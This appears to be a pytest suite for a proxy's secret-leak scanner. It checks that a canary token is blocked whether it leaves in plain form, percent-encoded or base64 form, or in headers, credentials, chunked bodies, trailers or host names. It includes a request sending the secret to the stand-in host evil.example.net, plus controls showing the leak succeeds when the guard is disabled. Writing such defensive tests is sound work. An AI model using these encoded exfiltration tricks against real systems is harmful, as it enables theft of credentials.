"""Secrets of the vault on their way to hosts that they are not for. The judge is what arrives at the upstream."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import random
from collections.abc import AsyncIterator
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from structlog.testing import capture_logs

from cloned_proxy.policy.model.model import Policy, Scope
from cloned_proxy.policy.secrets.spelling import why_not_watched
from cloned_proxy.policy.terms.host_index import HostIndex
from cloned_proxy.policy.terms.rule import Inject, Rule
from cloned_proxy.policy.terms.vocabulary import Anonymous, Mode
from cloned_proxy.proxy.secrets.leak import LeakError, LeakScanner, LeakWatch
from cloned_proxy.proxy.wire.head import Head, parse_head
from tests.proxy.plain.support import Message, client, read_message, request
from tests.proxy.support import HOST, Policies, Upstream, World, allow, policy, until, upstream, world

CANARY = "sk-canary/4f+9=0aQ"
NAME = "github.token"
CHUNKED = "Transfer-Encoding: chunked\r\n"

SPELLED = {
    "raw": CANARY,
    "percent": quote(CANARY, safe=""),
    "percent, lower case": quote(CANARY, safe="").replace("%2F", "%2f").replace("%2B", "%2b").replace("%3D", "%3d"),
    "percent, but for the slash": quote(CANARY),
    "base64": base64.b64encode(CANARY.encode()).decode(),
    "base64 for URLs": base64.urlsafe_b64encode(CANARY.encode()).decode(),
    "base64 of user:value": base64.b64encode(f"user:{CANARY}".encode()).decode(),
    "base64 of longer:value": base64.b64encode(f"somebody:{CANARY}".encode()).decode(),
    "JSON with an escaped slash": CANARY.replace("/", "\\/"),
}


@dataclass
class Scene:
    world: World
    server: Upstream
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def ask(self, path: str = "/", *, method: str = "GET", headers: str = "", body: bytes = b"") -> Message:
        self.writer.write(request(self.server.port, path, method=method, headers=headers, body=body))
        return await read_message(self.reader)

    @property
    def said(self) -> str:
        """All that an operator or a caller could read of it later."""
        return repr(self.world.audit.events)


@contextlib.asynccontextmanager
async def scene(*more: Rule, watched: dict[str, str] | None = None, mode: Mode = Mode.ENFORCE) -> AsyncIterator[Scene]:
    """A host that is allowed, and no host of the secret."""
    received = bytearray()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(65_536):
            received.extend(data)
            if received.endswith((b"\r\n\r\n", b"END")):
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    async with (
        upstream(serve) as server,
        world(
            current=policy(allow(HOST, server.port), *more, mode=mode),
            watched={NAME: CANARY} if watched is None else watched,
        ) as w,
        client(w) as (reader, writer),
    ):
        server.received = received
        yield Scene(w, server, reader, writer)


def refused(message: Message) -> bool:
    return (message.status, message.all("x-cloned-proxy-reason")) == (403, ["secret_leak"])


@pytest.mark.parametrize("spelled", SPELLED.values(), ids=SPELLED)
@pytest.mark.parametrize("place", ["query", "path", "header", "credential", "body", "chunks", "trailer", "coded"])
async def test_it_does_not_leave_and_nobody_reads_it_later(place: str, spelled: str) -> None:
    body = f"take {spelled} along END".encode()
    async with scene() as s:
        with capture_logs() as logs:
            message = await {
                "query": lambda: s.ask(f"/?key={spelled}"),
                "path": lambda: s.ask(f"/{spelled.replace(chr(92), '%5C') if chr(92) in spelled else spelled}/x"),
                "header": lambda: s.ask(headers=f"X-Debug: it is {spelled}!\r\n"),
                "credential": lambda: s.ask(headers=f"Authorization: Basic {spelled}\r\n"),
                "body": lambda: s.ask("/up", method="POST", body=body),
                "chunks": lambda: s.ask("/up", method="POST", headers=CHUNKED, body=_chunks(body, 3)),
                "trailer": lambda: s.ask(
                    "/up", method="POST", headers=CHUNKED, body=b"3\r\nEND\r\n0\r\nX-T: " + body + b"\r\n\r\n"
                ),
                "coded": lambda: s.ask(
                    "/up",
                    method="POST",
                    headers=CHUNKED + "Content-Encoding: gzip\r\n",
                    body=b"3\r\nxxx\r\n0\r\nX-T: " + body + b"\r\n\r\n",
                ),
            }[place]()
        if place == "path" and "\\" in spelled:
            return  # no path holds a backslash
        assert refused(message)
        assert spelled.encode() not in s.server.received
        assert s.world.audit.verdicts[-1] == ("deny", "secret_leak")
        for told in (str(message), s.said, repr(logs)):
            assert spelled not in told
            assert CANARY not in told
        # The owner is told which one it was, the caller is not.
        assert NAME in s.said
        assert NAME not in str(message)
        assert json.loads(message.body)["error"] == "egress_denied"


def _chunks(body: bytes, size: int) -> bytes:
    pieces = (body[at : at + size] for at in range(0, len(body), size))
    return b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


async def test_a_body_that_comes_byte_by_byte_loses_less_than_eight_bytes_of_it() -> None:
    async with scene() as s:
        s.writer.write(request(s.server.port, "/up", method="POST", headers="Content-Length: 100\r\n"))
        for byte in CANARY.encode():
            s.writer.write(bytes((byte,)))
            await asyncio.sleep(0.001)
        assert refused(await read_message(s.reader))
        assert CANARY[:8].encode() not in s.server.received


async def test_what_waits_for_an_answer_to_its_last_bytes_gets_it() -> None:
    """A body that ends in few bytes of a beginning is not held back, and the server is not kept waiting."""
    async with scene() as s:
        s.writer.write(request(s.server.port, "/up", method="POST", headers="Content-Length: 100\r\n", body=b""))
        s.writer.write(b"question " + CANARY[:7].encode())
        await until(lambda: CANARY[:7].encode() in s.server.received)


async def test_a_host_name_may_hold_it_too() -> None:
    watched = {NAME: "abcdefghijklmnopqrstuvwxyz0123"}
    async with scene(watched=watched) as s:
        host = f"{watched[NAME]}.example.com"
        s.writer.write(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        message = await read_message(s.reader)
        assert refused(message)
        assert watched[NAME] not in str(message) + s.said
        assert s.world.resolver.asked == []


@pytest.mark.parametrize("place", ["method", "field name", "body of no coding"])
async def test_nor_does_it_leave_where_nobody_would_write_it(place: str) -> None:
    value = "ghp-4f9aq7c2e8d1"
    async with scene(watched={NAME: value}) as at:
        if place == "method":
            answer = await at.ask(method=value)
        elif place == "field name":
            answer = await at.ask(headers=f"{value}: 1\r\n")
        else:
            answer = await at.ask(method="POST", headers="Content-Encoding: identity\r\n", body=f"{value}END".encode())
        assert refused(answer)
        assert value.encode() not in at.server.received
        assert value not in at.said


async def test_a_host_that_no_rule_allows_is_an_alarm_as_well() -> None:
    async with scene() as s:
        s.writer.write(f"GET http://evil.example.net/?k={CANARY} HTTP/1.1\r\nHost: evil.example.net\r\n\r\n".encode())
        assert refused(await read_message(s.reader))
        assert s.world.resolver.asked == []


async def test_report_mode_lets_it_out_no_more() -> None:
    async with scene(mode=Mode.REPORT) as s:
        assert refused(await s.ask(f"/?k={CANARY}"))
        assert refused(await s.ask(method="POST", body=CANARY.encode()))
        assert CANARY.encode() not in s.server.received


async def test_its_own_host_gets_it_on_the_ports_of_its_rule_alone() -> None:
    inject = Inject("Authorization", f"Bearer ${{vault:{NAME}}}")
    async with upstream() as other, scene() as s:
        mine = allow(HOST, s.server.port, inject=inject, id="r-own", scope="owner@v1")
        owner = {"owner@v1": Scope(allow=HostIndex([mine]))}
        everybody = Scope(allow=HostIndex([allow(HOST, s.server.port), allow(HOST, other.port)]))
        s.world.policies.current = Policy("v2", Mode.ENFORCE, Anonymous.GLOBAL, everybody, owner)
        assert (await s.ask(headers=f"X-Key: {CANARY}\r\n")).status == 200
        assert (await s.ask(method="POST", body=f"{CANARY} END".encode())).status == 200
        s.writer.write(request(other.port, f"/?k={CANARY}"))
        assert refused(await read_message(s.reader))
        assert other.connections == 0


ORDINARY = {
    "a beginning": CANARY[:-1],
    "other case": CANARY.upper(),
    "another value": CANARY[:-1] + "x",
    "blanks in it": " ".join(CANARY),
    "reversed": CANARY[::-1],
}


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
async def test_what_only_looks_like_it_passes(text: str) -> None:
    async with scene() as s:
        message = await s.ask(method="POST", headers=f"X-A: {text}\r\n", body=f"{text} END".encode())
        assert message.status == 200
        assert text.encode() in bytes(s.server.received).partition(b"\r\n\r\n")[2]


@pytest.mark.parametrize(
    "value", ["short", "password123", "aaaaaaaaaaaaaaaaaaaaaa", "api.example.com", "production-eu"]
)
async def test_a_value_that_turns_up_by_chance_is_not_looked_for(value: str) -> None:
    assert why_not_watched(value)
    async with scene(watched={"a": value}) as s:
        assert (await s.ask(f"/?q={value}")).status == 200


@pytest.mark.parametrize(
    "value", [CANARY, "3f786850e387550fdab836ed7e6dc881de23001b", "ghp_16C7e42F292c", "correct-horse-battery-staple"]
)
def test_what_keys_look_like_is_looked_for(value: str) -> None:
    assert not why_not_watched(value)


async def test_a_body_that_is_coded_is_not_looked_into() -> None:
    async with scene() as s:
        message = await s.ask(method="POST", headers="Content-Encoding: x\r\n", body=f"{CANARY} END".encode())
        assert message.status == 200


async def test_an_empty_vault_searches_nothing() -> None:
    watch = LeakWatch()
    watch.load({})
    assert not watch.armed
    async with scene(watched={}) as s:
        assert (await s.ask(f"/?k={CANARY}")).status == 200


async def test_a_connection_goes_on_behind_a_refusal() -> None:
    async with scene() as s:
        assert refused(await s.ask(f"/?k={CANARY}"))
        assert (await s.ask("/fine")).status == 200


def scanner(*values: str) -> LeakScanner:
    watch = LeakWatch(Policies(Policy()))
    watch.load({f"s{number}": value for number, value in enumerate(values)})
    found = watch.scanner(_head())
    assert found is not None
    return found


def _head() -> Head:
    return parse_head(b"POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nContent-Length: 1\r\n\r\n", tunnelled=False)


def test_any_segmentation_finds_it_and_nothing_else_is_changed() -> None:
    rng = random.Random(7)
    alphabet = CANARY.encode() + b"sk-canary"
    for _ in range(400):
        noise = bytes(rng.choice(alphabet) for _ in range(rng.randrange(200)))
        while CANARY.encode() in noise:
            noise = noise[1:]
        searching, out = scanner(CANARY), b""
        at = 0
        while at < len(noise):
            size = rng.randrange(1, 9)
            out += searching.feed(noise[at : at + size])
            at += size
        assert out + searching.rest() == noise
        searching, data, out, at = scanner(CANARY), noise + CANARY.encode() + noise, b"", 0
        with pytest.raises(LeakError):  # noqa: PT012  at whichever piece
            while at < len(data):
                size = rng.randrange(1, 9)
                out += searching.feed(data[at : at + size])
                at += size
        assert CANARY.encode()[:8] not in out[len(noise) :]


def test_memory_is_bounded_by_the_longest_spelling() -> None:
    searching = scanner("x" * 4000 + CANARY)
    for _ in range(100):
        searching.feed(b"abc" * 20_000)
        assert len(searching._window) < 3 * 4100


# Each guard taken out: the attack that it stops is real.


async def test_control_without_the_search_it_arrives(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(LeakWatch, "in_head", lambda self, head: "")
    monkeypatch.setattr(LeakWatch, "scanner", lambda self, head: None)
    async with scene() as s:
        assert (await s.ask(f"/?k={CANARY}")).status == 200
        assert (await s.ask(method="POST", body=f"{CANARY} END".encode())).status == 200
        assert bytes(s.server.received).count(CANARY.encode()) == 2


async def test_control_without_the_window_it_arrives_in_two_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    original = LeakScanner.feed

    def forgetful(self: LeakScanner, piece: bytes) -> bytes:
        passed = original(self, piece)
        held = self.rest()
        self._window, self._passed = b"", 0
        return passed + held

    monkeypatch.setattr(LeakScanner, "feed", forgetful)
    async with scene() as s:
        assert (await s.ask(method="POST", headers=CHUNKED, body=_chunks(f"{CANARY}END".encode(), 5))).status == 200
        assert CANARY[:5].encode() in s.server.received
